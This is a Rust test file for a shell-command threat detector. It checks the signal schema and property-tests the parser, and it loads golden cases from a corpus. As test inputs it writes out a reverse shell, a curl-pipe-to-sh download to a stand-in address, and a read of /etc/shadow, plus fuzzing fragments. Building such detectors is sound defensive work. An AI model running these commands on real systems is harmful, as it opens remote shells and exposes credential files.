//! The signals as a whole: declarations hold, any text gives a row, golden commands give theirs.

use std::collections::{BTreeMap, BTreeSet};

use proptest::prelude::*;
use ringtrue_core::signal::SignalType;
use serde::Deserialize;

use super::*;
use crate::command::ParseIssue;

fn row_of(command: &Command) -> Vec<f32> {
    let mut row = vec![7.0];
    signals_of(command, &mut row);
    row
}

fn read(text: &str) -> Command {
    Command::parse(text, &Limits::default()).0
}

#[test]
fn declarations_are_complete() {
    let schema = schema();
    let names: BTreeSet<_> = schema.signals.iter().map(|signal| &signal.name).collect();
    assert_eq!(names.len(), schema.signals.len(), "names are unique");
    assert!(schema.signals.len() >= 100);
    let themes = schema.themes();
    for signal in &schema.signals {
        let name = &signal.name;
        assert!(
            name.bytes()
                .all(|byte| byte.is_ascii_lowercase() || byte == b'_'),
            "{name}"
        );
        assert!(
            !signal.meaning.ends_with('.') && signal.meaning.len() > 6,
            "{name}"
        );
        assert!(signal.attacker.cost_minutes >= 0.0, "{name}");
        for other in &signal.attacker.together {
            assert!(themes.contains(&other.as_str()), "{name}: {other}");
        }
    }
}

#[test]
fn digest_of_the_schema_is_known() {
    // A changed digest refuses every detector trained before: change the code's version with it.
    let found = format!("{} {}", schema().code, schema().digest().short());
    assert_eq!(found, "command/1 f93754436fd5");
}

/// Checks what holds for the row of any command.
fn check_row(text: &str) -> Result<(), TestCaseError> {
    let row = row_of(&read(text));
    prop_assert_eq!(row.len(), schema().signals.len());
    for (value, signal) in row.iter().zip(&schema().signals) {
        prop_assert!(!value.is_infinite(), "{}: {}", signal.name, value);
        if value.is_nan() {
            continue;
        }
        let low = if signal.name.ends_with("likelihood") {
            -64.0
        } else {
            0.0
        };
        prop_assert!(*value >= low, "{}: {}", signal.name, value);
        match signal.signal_type {
            SignalType::Flag => {
                prop_assert!(
                    [0.0_f32, 1.0].map(f32::to_bits).contains(&value.to_bits()),
                    "{}",
                    signal.name
                );
            }
            SignalType::Category => prop_assert!(value.fract() == 0.0, "{}", signal.name),
            SignalType::Number if signal.unit == "share" => {
                prop_assert!(*value <= 1.0, "{}: {}", signal.name, value);
            }
            SignalType::Number => {}
        }
    }
    Ok(())
}

/// Pieces that commands are made of and broken with.
const PIECES: &[&str] = &[
    "wget ",
    "sh",
    " -c ",
    "'",
    "\"",
    "$(",
    ")",
    "`",
    "${",
    "}",
    "{a,b}",
    "\\",
    "\n",
    ";",
    "&&",
    "||",
    "|",
    "&",
    ">",
    "<",
    ">>",
    "<<EOF",
    "EOF",
    "<<<",
    "2>&1",
    "$'\\x41",
    "$IFS",
    "A=b ",
    "$A",
    "echo ",
    "base64 -d",
    "eval ",
    "# ",
    "((",
    "[[",
    "é",
    "🦀",
    "\0",
    "\t",
    "/dev/tcp/192.0.2.7/1",
    "busybox ",
    "find . -exec ",
    " \\;",
    "python -c ",
    "sudo ",
    "xargs ",
];

proptest! {
    #[test]
    fn any_text_gives_a_row(text in any::<String>()) {
        check_row(&text)?;
    }

    #[test]
    fn any_broken_command_gives_a_row(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..24)) {
        check_row(&pieces.concat())?;
    }

    #[test]
    fn what_stands_before_does_not_dilute(words in "[a-z]{1,9}( [a-z0-9./-]{1,12}){0,9}") {
        for bad in ["bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "curl http://192.0.2.7/x | sh", "cat /etc/shadow"] {
            let plain = read(bad).findings;
            let padded = read(&format!("{words} ; {bad}")).findings;
            prop_assert!(padded.worst >= plain.worst);
            prop_assert!(plain.names().all(|name| padded.names().any(|other| other == name)));
        }
    }

    #[test]
    fn reading_again_changes_nothing(words in prop::collection::vec("[a-zA-Z0-9./_-]{1,9}|'[a-z ;|]{0,9}'|\"[a-z *]{0,9}\"", 1..8)) {
        let once = read(&words.join(" ")).normalised();
        prop_assert_eq!(read(&once).normalised(), once);
    }

    #[test]
    fn quoting_does_not_matter(word in "[a-z]{2,9}", cut in 1_usize..8, rest in "[a-z0-9 ./]{0,20}") {
        let cut = cut.min(word.len().saturating_sub(1));
        let (head, tail) = word.split_at(cut);
        let plain = read(&format!("{word} {rest}")).normalised();
        for disguised in [
            format!("{head}''{tail} {rest}"),
            format!("'{head}'{tail} {rest}"),
            format!("{head}\"{tail}\" {rest}"),
            format!("{head}\\\n{tail} {rest}"),
        ] {
            prop_assert_eq!(&read(&disguised).normalised(), &plain, "{}", disguised);
        }
    }
}

/// One golden command: what the shell makes of it, what it does, and signals that must have these values.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    /// What the case is about.
    what: String,
    #[serde(default)]
    command: String,
    /// An argument vector instead of a line.
    #[serde(default)]
    arguments: Vec<String>,
    /// Repeats `command` this often, for long ones.
    #[serde(default)]
    repeat: Option<usize>,
    /// The normalised text; not checked where it is left out.
    #[serde(default)]
    normalised: Option<String>,
    #[serde(default)]
    programs: Option<Vec<String>>,
    /// Actions that must be found.
    #[serde(default)]
    actions: Vec<String>,
    /// Actions that must not be found.
    #[serde(default)]
    not: Vec<String>,
    /// Ids of techniques that must be found.
    #[serde(default)]
    techniques: Vec<String>,
    #[serde(default)]
    issues: Vec<String>,
    #[serde(default)]
    signals: BTreeMap<String, f32>,
}

#[derive(Deserialize)]
struct Corpus {
    case: Vec<Case>,
}

#[test]
fn golden_commands() {
    let corpus: Corpus =
        toml::from_str(include_str!("../../../../../corpora/command/cases.toml")).expect("corpus");
    assert!(corpus.case.len() >= 60);
    let problems: Vec<String> = corpus.case.iter().flat_map(problems_of).collect();
    assert!(problems.is_empty(), "{problems:#?}");
}

fn parsed(case: &Case) -> (Command, Vec<ParseIssue>) {
    let limits = Limits::default();
    if case.arguments.is_empty() {
        Command::parse(&case.command.repeat(case.repeat.unwrap_or(1)), &limits)
    } else {
        Command::of_arguments(&case.arguments, &limits)
    }
}

/// Returns what of a case does not hold.
fn problems_of(case: &Case) -> Vec<String> {
    let (command, issues) = parsed(case);
    let mut problems = Vec::new();
    let mut compare = |name: &str, expected: &str, found: &str| {
        if expected != found {
            problems.push(format!(
                "{}: {name} is `{found}`, not `{expected}`",
                case.what
            ));
        }
    };
    let issues: Vec<String> = issues.iter().map(|issue| format!("{issue:?}")).collect();
    compare("issues", &case.issues.join(" "), &issues.join(" "));
    let normalised = command.normalised();
    compare(
        "normalised",
        case.normalised.as_deref().unwrap_or(&normalised),
        &normalised,
    );
    let programs: Vec<&str> = command.programs().collect();
    let expected = case
        .programs
        .as_ref()
        .map_or_else(|| programs.join(" "), |expected| expected.join(" "));
    compare("programs", &expected, &programs.join(" "));
    let names: Vec<&str> = command.findings.names().collect();
    for action in &case.actions {
        compare(
            action,
            "found",
            if names.contains(&action.as_str()) {
                "found"
            } else {
                "missing"
            },
        );
    }
    for action in &case.not {
        compare(
            action,
            "missing",
            if names.contains(&action.as_str()) {
                "found"
            } else {
                "missing"
            },
        );
    }
    for id in &case.techniques {
        let has = command.techniques().any(|technique| technique.id == id);
        compare(id, "true", &has.to_string());
    }
    let row = row_of(&command);
    for (name, expected) in &case.signals {
        let column = schema().position(name).expect(name);
        let found = row.get(column).copied().expect("as wide as the schema");
        compare(name, &expected.to_string(), &found.to_string());
    }
    problems
}
